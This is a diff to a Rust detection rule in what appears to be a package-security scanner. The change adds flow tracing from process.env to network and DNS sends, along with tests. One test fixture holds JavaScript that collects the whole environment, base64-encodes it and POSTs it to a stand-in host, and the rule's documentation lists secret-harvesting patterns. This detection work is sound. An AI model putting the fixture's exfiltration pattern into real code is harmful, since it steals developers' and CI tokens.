@@ -1,7 +1,10 @@
 //! `code/env-exfiltration`.
 
-use super::{SENDS, chain, finding, locality, per_signal};
+use super::{
+    SENDS, chain, describe, exfil_destination, finding, flow_finding, flows, locality, per_signal,
+};
 use crate::CodeFinding;
+use crate::flow::{SinkKind, SourceKind};
 use crate::signal::{Kind, PackageFacts};
 use crate::verdict::Locality;
 use diligence_finding::Severity;
@@ -10,10 +13,14 @@ diligence_finding::declare_rule! {
     /// The whole environment (or every secret-looking variable) is collected in a package that sends data out.
     ///
     /// ## What it detects
-    /// `process.env` serialised as a whole (`JSON.stringify(process.env)`; `Object.assign({}, process.env)` or
-    /// `{...process.env}` stored in an object next to host or user details; `Object.entries(process.env)` /
-    /// `for…in` iteration filtered by secret-looking names such as `/TOKEN|SECRET/`) together
-    /// with a network sink; strongest in the same function or file.
+    /// A value-flow path from the environment to a network or DNS send: `process.env` as a whole (or its
+    /// keys/entries), through variables, properties, encoders, function arguments, returns, callbacks and the
+    /// package's own modules, into an HTTP body, URL or header, a socket or WebSocket write, a beacon or a DNS
+    /// name (critical); one secret-named variable (`NPM_TOKEN`, `AWS_SECRET_ACCESS_KEY`) sent is medium, or
+    /// critical into a DNS name or an exfiltration-style endpoint. Without a complete path: `process.env`
+    /// serialised as a whole (`JSON.stringify(process.env)`; `{...process.env}` stored next to host or user
+    /// details; `Object.entries(process.env)` / `for…in` iteration filtered by secret-looking names such as
+    /// `/TOKEN|SECRET/`) in a package with a network sink, strongest in the same function or file.
     ///
     /// ## Why it matters
     /// CI and developer environments hold registry, cloud and GitHub tokens; the crossenv typosquats (2017) and
@@ -25,14 +32,24 @@ diligence_finding::declare_rule! {
     /// ## Known false positives
     /// dotenv-style loaders iterate `process.env` without a network sink (not reported); spawning a child with
     /// `{ env: process.env }` is recognised and skipped; crash reporters that attach the whole environment are
-    /// reported, on purpose.
+    /// reported, on purpose. Package managers send npm configuration taken from the environment
+    /// (`npm_config_*`) to the package registry: medium. API clients send their own token (`GITHUB_TOKEN` to the API they wrap): one
+    /// secret variable on a path is medium, a weak signal on its own.
     pub static ENV_EXFILTRATION = { id: "code/env-exfiltration", severity: Severity::Critical };
 }
 
-/// One finding per env dump in a package with a network sink.
+/// One finding per path from the environment to a send, and one per env dump in a package
+/// with a network sink.
 pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
-    let mut out = per_signal(p, Kind::EnvDump, |f, s| report(p, f, s));
+    let mut out = paths(p);
+    let traced = out.clone();
+    out.extend(per_signal(p, Kind::EnvDump, |f, s| {
+        (!super::traced(&traced, f, s)).then(|| report(p, f, s))?
+    }));
     out.extend(per_signal(p, Kind::EnvIterate, |f, s| {
+        if super::traced(&traced, f, s) {
+            return None;
+        }
         // Iterating the environment is ordinary (prefix filters, dotenv); iterating it with a
         // secret-name filter in the same function is harvesting.
         if !f.has_in(Kind::EnvSecretFilter, s.func) && !f.has_in(Kind::Network, s.func) {
@@ -41,6 +58,62 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
         report(p, f, s)
     }));
     out
+}
+
+const OUT: &[SinkKind] = &[SinkKind::Network, SinkKind::Dns];
+
+fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
+    super::one_per_sink(paths_all(p))
+}
+
+fn paths_all(p: &PackageFacts) -> Vec<CodeFinding> {
+    flows(p, &[SourceKind::EnvAll, SourceKind::EnvSecret], OUT)
+        .take(20)
+        .map(|path| {
+            let sev = match path.source {
+                // npm-style configuration (`npm_config_*` variables) sent to the package
+                // registry is how package managers authenticate, not exfiltration.
+                SourceKind::EnvAll if package_registry(path.dest.as_deref()) => Severity::Medium,
+                SourceKind::EnvAll => Severity::Critical,
+                _ if path.sink == SinkKind::Dns || exfil_destination(path.dest.as_deref()) => {
+                    Severity::Critical
+                }
+                _ => Severity::Medium,
+            };
+            let what = if path.source == SourceKind::EnvAll {
+                "the environment"
+            } else {
+                "a secret environment variable"
+            };
+            flow_finding(
+                &ENV_EXFILTRATION,
+                sev,
+                p,
+                path,
+                format!("{what} is sent out: {}", describe(path)),
+            )
+        })
+        .collect()
+}
+
+/// True when `dest` is a package registry (npm, yarn, GitHub Packages, the npm mirrors).
+fn package_registry(dest: Option<&str>) -> bool {
+    let Some(d) = dest else { return false };
+    let host = d
+        .split("://")
+        .nth(1)
+        .unwrap_or(d)
+        .split(['/', ':'])
+        .next()
+        .unwrap_or("")
+        .to_ascii_lowercase();
+    matches!(
+        host.as_str(),
+        "registry.npmjs.org"
+            | "registry.yarnpkg.com"
+            | "npm.pkg.github.com"
+            | "registry.npmmirror.com"
+    )
 }
 
 fn report(
@@ -99,8 +172,58 @@ mod tests {
         ]);
         assert_eq!(
             hits(&s, "code/env-exfiltration"),
-            vec![("a.js".to_string(), 3)]
+            vec![("a.js".to_string(), 4)]
         );
+    }
+
+    /// The environment crosses a function and a module before it is sent.
+    #[test]
+    fn positive_path_across_modules() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const report = require('./report');\nfunction snapshot() {\n  return Object.entries(process.env);\n}\nreport.upload(snapshot());\n",
+            ),
+            (
+                "report.js",
+                "const https = require('https');\nexports.upload = function (rows) {\n  const body = Buffer.from(JSON.stringify(rows)).toString('base64');\n  https.request({ hostname: 'r.example.net', method: 'POST' }).end(body);\n};\n",
+            ),
+        ]);
+        let f = s
+            .findings
+            .iter()
+            .find(|f| f.rule == "code/env-exfiltration")
+            .expect("a finding");
+        assert_eq!((f.file.as_str(), f.line), ("report.js", 4));
+        assert_eq!(f.severity, diligence_finding::Severity::Critical);
+        let chain: Vec<(&str, u32)> = f
+            .evidence
+            .iter()
+            .map(|e| (e.file.as_str(), e.line))
+            .collect();
+        assert_eq!(chain.first(), Some(&("index.js", 3)));
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// An API client sending its own token: one secret variable, a weak signal.
+    #[test]
+    fn negative_api_client_sends_its_token() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "gh.js",
+                "const https = require('https');\nmodule.exports = function api(path) {\n  return https.request({ hostname: 'api.github.com', path, headers: { authorization: 'token ' + process.env.GITHUB_TOKEN } });\n};\n",
+            ),
+        ]);
+        let sev: Vec<_> = s
+            .findings
+            .iter()
+            .filter(|f| f.rule == "code/env-exfiltration")
+            .map(|f| f.severity)
+            .collect();
+        assert_eq!(sev, vec![diligence_finding::Severity::Medium]);
+        assert_eq!(s.verdict, crate::Verdict::Clean);
     }
 
     #[test]
